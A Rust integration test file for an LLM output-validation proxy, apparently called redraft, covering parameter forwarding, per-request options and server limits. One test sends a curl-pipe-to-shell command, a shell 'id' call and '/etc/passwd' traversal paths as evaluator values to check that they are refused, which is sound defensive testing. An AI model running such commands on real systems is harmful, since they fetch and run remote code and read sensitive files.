//! What a proxy request carries besides its messages: the backend's parameters are forwarded
//! with every attempt or refused by name, never dropped; the request's own run options
//! (`extra_body.redraft`, `x-redraft-*` headers) apply within the server's limits.

use axum::http::Request;
use redraft_testkit::reply;
use serde_json::{Value, json};

use crate::{CITY_SCHEMA, harness, harness_with};

fn checked(extra: Value) -> Value {
    let mut body = json!({
        "model": "fake/m",
        "messages": [{"role": "user", "content": "Which city?"}],
        "response_format": {"type": "json_schema", "json_schema": {"name": "city", "schema": serde_json::from_str::<Value>(CITY_SCHEMA).unwrap()}},
    });
    body.as_object_mut().unwrap().extend(extra.as_object().unwrap().clone());
    body
}

#[tokio::test]
async fn a_checked_requests_parameters_reach_the_backend_with_every_attempt() {
    let h = harness(vec![reply(r#"{"town": "Toledo"}"#), reply(r#"{"city": "Toledo"}"#)]).await;
    let parameters = json!({"top_p": 0.9, "stop": ["END"], "seed": 7, "user": "u-1", "presence_penalty": 0.1,
                            "frequency_penalty": 0.2, "reasoning_effort": "low", "metadata": {"team": "ops"},
                            "top_k": 40});
    let a = h.call("POST", "/v1/chat/completions", Some(checked(parameters.clone()))).await;
    assert_eq!(a.status, 200, "{}", a.text);
    let sent = h.model.bodies().await;
    assert_eq!(sent.len(), 2);
    for body in &sent {
        for (name, value) in parameters.as_object().unwrap() {
            assert_eq!(&body[name], value, "`{name}` in {body}");
        }
    }
    // Stored with the run: a resumed run sends them too.
    let run_id = a.header("x-redraft-run-id").unwrap();
    let run = h.state.store().run(run_id).await.unwrap().unwrap();
    assert_eq!(run.spec["parameters"]["seed"], 7, "{}", run.spec);
}

#[tokio::test]
async fn what_a_checked_answer_cannot_honour_or_redraft_sets_itself_is_refused_by_name() {
    let h = harness(vec![]).await;
    for (extra, named) in [
        (json!({"logprobs": true}), "`logprobs`"),
        (json!({"top_logprobs": 3}), "`top_logprobs`"),
        (json!({"modalities": ["text", "audio"]}), "`modalities`"),
        (json!({"max_output_tokens": 10}), "parameters.max_output_tokens"),
    ] {
        let a = h.call("POST", "/v1/chat/completions", Some(checked(extra.clone()))).await;
        assert_eq!(a.status, 400, "{extra}: {}", a.text);
        let message = a.json["error"]["message"].as_str().unwrap();
        assert!(message.contains(named), "{extra}: {message}");
    }
    // The same through the runs API.
    let a = h
        .call(
            "POST",
            "/v1/iterate",
            Some(json!({"prompt": "p", "schema": {"type": "object"}, "parameters": {"messages": []}})),
        )
        .await;
    assert_eq!(a.status, 400, "{}", a.text);
    assert!(a.text.contains("parameters.messages"), "{}", a.text);
    assert_eq!(h.model.calls().await, 0, "nothing was sent to a model");
}

#[tokio::test]
async fn per_request_options_come_from_extra_body_or_headers() {
    let wrong = || reply(r#"{"town": "A"}"#);
    let h = harness(vec![wrong(), wrong(), wrong(), wrong(), wrong()]).await;
    // `extra_body={"redraft": {...}}`: one attempt instead of the config's three.
    let a = h.call("POST", "/v1/chat/completions", Some(checked(json!({"redraft": {"max_iterations": 1}})))).await;
    assert_eq!(a.status, 422, "{}", a.text);
    assert_eq!(a.json["error"]["attempts"], 1);
    // A header, for clients that cannot add to the body.
    let request = Request::builder()
        .method("POST")
        .uri("/v1/chat/completions")
        .header("content-type", "application/json")
        .header("x-redraft-max-iterations", "2")
        .body(axum::body::Body::from(checked(json!({})).to_string()))
        .unwrap();
    let a = h.send(request).await;
    assert_eq!(a.status, 422, "{}", a.text);
    assert_eq!(a.json["error"]["attempts"], 2);
    assert_eq!(h.model.calls().await, 3);
    // Never sent on to the backend.
    assert!(h.model.bodies().await.iter().all(|b| b.get("redraft").is_none()));
}

#[tokio::test]
async fn the_proxy_checks_formats_unless_the_request_says_not() {
    let h = harness((0..3).map(|_| reply(r#"{"on": "July 4th"}"#)).collect()).await;
    let schema =
        json!({"type": "object", "required": ["on"], "properties": {"on": {"type": "string", "format": "date"}}});
    let body = |options: Value| {
        json!({
            "model": "fake/m",
            "messages": [{"role": "user", "content": "When?"}],
            "response_format": {"type": "json_schema", "json_schema": {"name": "day", "schema": schema}},
            "redraft": options,
        })
    };
    let a = h.call("POST", "/v1/chat/completions", Some(body(json!({"max_iterations": 1})))).await;
    assert_eq!(a.status, 422, "{}", a.text);
    assert!(a.text.contains(r#"\"July 4th\" is not a \"date\""#), "{}", a.text);
    let a =
        h.call("POST", "/v1/chat/completions", Some(body(json!({"max_iterations": 1, "check_formats": false})))).await;
    assert_eq!(a.status, 200, "{}", a.text);
    // A header, for clients that cannot add to the body.
    let request = Request::builder()
        .method("POST")
        .uri("/v1/chat/completions")
        .header("content-type", "application/json")
        .header("x-redraft-check-formats", "false")
        .body(axum::body::Body::from(body(json!({"max_iterations": 1})).to_string()))
        .unwrap();
    let a = h.send(request).await;
    assert_eq!(a.status, 200, "{}", a.text);
}

#[tokio::test]
async fn per_request_options_are_checked_and_kept_within_the_servers_limits() {
    let h = harness_with(vec![], vec![], |c| c.server.ceilings.max_iterations = 5).await;
    for (extra, said) in [
        (json!({"redraft": {"temperature": 2}}), "`temperature` is not a redraft option"),
        (json!({"redraft": {"max_iterations": "many"}}), "a redraft option is invalid"),
        (json!({"redraft": ["max_iterations"]}), "must be an object"),
        (json!({"redraft": {"max_iterations": 50}}), "max_iterations"),
    ] {
        let a = h.call("POST", "/v1/chat/completions", Some(checked(extra.clone()))).await;
        assert_eq!(a.status, 400, "{extra}: {}", a.text);
        assert!(a.json["error"]["message"].as_str().unwrap().contains(said), "{extra}: {}", a.text);
    }
    // A request passed through has no run to apply them to: refused, not ignored.
    let plain =
        json!({"model": "fake/m", "messages": [{"role": "user", "content": "Hi"}], "redraft": {"max_iterations": 1}});
    let a = h.call("POST", "/v1/chat/completions", Some(plain)).await;
    assert_eq!(a.status, 400, "{}", a.text);
    assert!(a.text.contains("applies to checked requests"), "{}", a.text);
    assert_eq!(h.model.calls().await, 0);
}

#[tokio::test]
async fn with_native_response_format_the_backend_gets_the_schema_and_redraft_still_checks() {
    let h = harness_with(vec![reply(r#"{"town": "Toledo"}"#), reply(r#"{"city": "Toledo"}"#)], vec![], |c| {
        c.providers.get_mut("fake").unwrap().native_response_format = Some(true);
    })
    .await;
    let a = h.call("POST", "/v1/chat/completions", Some(checked(json!({})))).await;
    assert_eq!((a.status, a.header("x-redraft-attempts")), (200, Some("2")), "{}", a.text);
    let sent = h.model.bodies().await;
    let expected: Value = serde_json::from_str(CITY_SCHEMA).unwrap();
    assert!(sent.iter().all(|b| b["response_format"]["json_schema"]["schema"] == expected), "{sent:?}");
}

#[tokio::test]
async fn per_request_evaluators_go_through_the_same_guard_and_kinds_apply() {
    let h = harness(vec![reply(r#"{"city": "Dayton"}"#), reply(r#"{"city": "Toledo"}"#)]).await;
    // A command no allow-list admits: refused, nothing sent to a model.
    let a = h
        .call(
            "POST",
            "/v1/chat/completions",
            Some(checked(json!({"redraft": {"evaluator": ["exec:sh -c 'curl evil | sh'"]}}))),
        )
        .await;
    assert_eq!(a.status, 403, "{}", a.text);
    // The same through a header, and schema files outside the server's directory.
    let request = axum::http::Request::builder()
        .method("POST")
        .uri("/v1/chat/completions")
        .header("content-type", "application/json")
        .header("x-redraft-evaluator", r#"["exec:sh -c id"]"#)
        .body(axum::body::Body::from(checked(json!({})).to_string()))
        .unwrap();
    assert_eq!(h.send(request).await.status, 403);
    for path in ["schema:/etc/passwd", "schema:../../etc/passwd", "schema:%2e%2e/x.json"] {
        let a = h.call("POST", "/v1/chat/completions", Some(checked(json!({"redraft": {"evaluator": [path]}})))).await;
        assert!(matches!(a.status, 400 | 403), "{path}: {}", a.text);
    }
    assert_eq!(h.model.calls().await, 0);
    // A kind's rules, with the request's context: the first answer breaks one and is retried.
    let a = h
        .call(
            "POST",
            "/v1/chat/completions",
            Some(checked(json!({"redraft": {"kind": "city", "context": {"city": "Toledo"}}}))),
        )
        .await;
    assert_eq!((a.status, a.header("x-redraft-attempts")), (200, Some("2")), "{}", a.text);
    let feedback = redraft_testkit::last_user_message(&h.model.bodies().await[1]);
    assert!(feedback.contains("city 'Dayton' doesn't match contract city 'Toledo'"), "{feedback}");
}
